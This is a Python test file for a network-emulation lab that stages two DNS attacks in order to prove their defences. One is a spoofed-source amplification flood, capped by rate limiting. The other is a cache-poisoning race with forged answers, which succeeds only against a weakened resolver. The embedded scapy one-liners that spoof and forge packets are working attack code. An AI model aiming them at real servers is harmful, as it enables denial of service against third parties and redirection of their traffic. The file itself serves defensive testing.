"""Reliability and security on a live network: attacks demonstrated, then defended (see
docs/SECURITY.md).

DNS amplification: an attacker floods an authoritative server with queries whose source
is the victim's address (nothing on the path checks sources, as on much of the real
internet); the server's answers — larger than the queries — hit the victim. With response
rate limiting the victim gets a trickle of tiny truncated replies instead.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

import topologies
from emulation.build import Emulation, wait_listening
from infralab.testing import Capture
from topologies import Service, Topology

ZONE = "{dir}/zones/example.com.zone"
FLOOD = 100


@pytest.fixture(scope="module")
def amp():
    t = Topology("amp")
    t.interface("ra", "att", "10.30.1.1/24")
    t.interface("ra", "srv", "10.30.2.1/24")
    t.interface("ra", "vic", "10.30.3.1/24")
    serve = ("{infralab} dns serve --zone-file " + ZONE + " --listen {ip}:53 --rrl 5 & "
             "exec {infralab} dns serve --zone-file " + ZONE + " --listen {ip}:5353")
    t.host("attk", "att", "10.30.1.10")
    t.host("auth", "srv", "10.30.2.53", services=[Service("dns", serve, ready_port=5353)])
    t.host("victim", "vic", "10.30.3.10")
    t.base_dir = str(topologies.builtin("world").parent)
    with Emulation(t) as emu:
        wait_listening(emu.host("auth"), 53, 10, None, "the rate-limited server")
        yield emu


def flood(emu: Emulation, port: int) -> None:
    code = ("from scapy.all import IP,UDP,DNS,DNSQR,send,conf;conf.verb=0;"
            f"send([IP(src='10.30.3.10',dst='10.30.2.53')/UDP(sport=40000+i,dport={port})/"
            "DNS(rd=0,qd=DNSQR(qname='example.com',qtype=2)) "
            f"for i in range({FLOOD})],inter=0.01)")
    p = emu.host("attk").popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, text=True)
    assert p.wait(60) == 0, p.stderr.read()


def test_dns_amplification_is_capped_by_response_rate_limiting(amp):
    counts = {}
    for port, label in ((5353, "no rrl"), (53, "rrl 5/s")):
        with Capture(amp, "victim", f"udp and src host 10.30.2.53 and src port {port}",
                     snaplen=1500) as cap:
            flood(amp, port)
        sizes = [len(p["UDP"].payload) for p in cap.packets if p.haslayer("UDP")]
        counts[label] = (len(sizes), sum(sizes))
    print(f"DNS amplification: {FLOOD} spoofed NS queries (answers carry glue) in ~1 s; "
          "the victim received "
          f"{counts['no rrl'][0]} answers ({counts['no rrl'][1]} bytes) without RRL, "
          f"{counts['rrl 5/s'][0]} ({counts['rrl 5/s'][1]} bytes) with --rrl 5")
    assert counts["no rrl"][0] >= FLOOD * 0.95
    no_rrl_bytes, rrl_bytes = counts["no rrl"][1], counts["rrl 5/s"][1]
    # the budget's answers do arrive (a mute server is no rate limiter), and no more
    # than budget + refill + slipped TCs
    assert 5 <= counts["rrl 5/s"][0] <= 5 + 10 + FLOOD // 2, counts
    assert rrl_bytes * 4 < no_rrl_bytes  # what reaches the victim shrinks, by far


POISON_ROOT = """$ORIGIN .
$TTL 300
@   IN SOA ns.root. hostmaster.root. ( 1 1800 900 604800 300 )
    IN NS  ns.root.
ns.root.          IN A 10.31.3.53
www.victim.test.  IN A 192.0.2.10
"""


@pytest.fixture(scope="module")
def poison(tmp_path_factory):
    """A client and an attacker on one subnet; two resolvers (safe, and weakened with
    sequential IDs from one fixed port); the only authoritative server (the root, holding
    www.victim.test) 150 ms away, so a forger has a window."""
    d = tmp_path_factory.mktemp("poison")
    (d / "root.zone").write_text(POISON_ROOT)
    (d / "root.hints").write_text(". 3600 IN NS ns.root.\nns.root. 3600 IN A 10.31.3.53\n")
    t = Topology("poison")
    t.interface("rp1", "cli", "10.31.1.1/24")
    t.interface("rp1", "res", "10.31.2.1/24")
    t.interface("rp1", "auth", "10.31.3.1/24")
    t.host("client", "cli", "10.31.1.10")
    t.host("forger", "cli", "10.31.1.66")
    resolve = "{infralab} dns resolve --root-hints {dir}/root.hints --listen {ip}:53 "
    t.host("safe", "res", "10.31.2.10", services=[Service("dns", resolve, ready_port=53)])
    t.host("weak", "res", "10.31.2.20", services=[Service(
        "dns", resolve + "--predictable-ids --fixed-source-port 5300", ready_port=53)])
    auth = t.host("root", "auth", "10.31.3.53", services=[Service(
        "dns", "{infralab} dns serve --zone-file {dir}/root.zone --listen {ip}:53",
        ready_port=53)])
    auth.link.delay = "75ms"
    t.base_dir = str(d)
    with Emulation(t) as emu:
        yield emu


def attack(emu: Emulation, resolver: str) -> None:
    """Ask `resolver` for www.victim.test, then spray forged answers 'from the root':
    IDs 1-300 to port 5300 (the weakened resolver's pattern), twice."""
    code = (
        "import socket,time;from scapy.all import IP,UDP,DNS,DNSQR,DNSRR,send,conf;"
        "conf.verb=0;"
        f"f=[IP(src='10.31.3.53',dst={resolver!r})/UDP(sport=53,dport=5300)/DNS(id=i,qr=1,aa=1,"
        "qd=DNSQR(qname='www.victim.test'),an=DNSRR(rrname='www.victim.test',ttl=3600,"
        "rdata='6.6.6.6')) for i in range(1,301)];"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);"
        f"s.sendto(bytes(DNS(id=7,rd=1,qd=DNSQR(qname='www.victim.test'))),({resolver!r},53));"
        "send(f*2,inter=0)")
    p = emu.host("forger").popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.PIPE, text=True)
    assert p.wait(60) == 0, p.stderr.read()


def answer(emu: Emulation, resolver: str) -> str:
    return emu.host("client").cmd(f"dig +short +tries=1 +time=3 @{resolver} "
                                  "www.victim.test A").strip()


@pytest.mark.serial  # (a race against a 150 ms round trip: a loaded machine's forger loses it)
def test_dns_poisoning_succeeds_against_the_weakened_resolver_and_fails_against_ours(
        poison):
    attack(poison, "10.31.2.20")
    weak = answer(poison, "10.31.2.20")
    attack(poison, "10.31.2.10")
    safe = answer(poison, "10.31.2.10")
    print(f"DNS poisoning: resolver with sequential IDs from a fixed port now answers "
          f"{weak!r}; ours (random ID and port) answers {safe!r}")
    assert weak == "6.6.6.6"  # the weakness is real: the forger won the race
    assert safe == "192.0.2.10"  # random ID + source port: 300 guesses are nowhere near
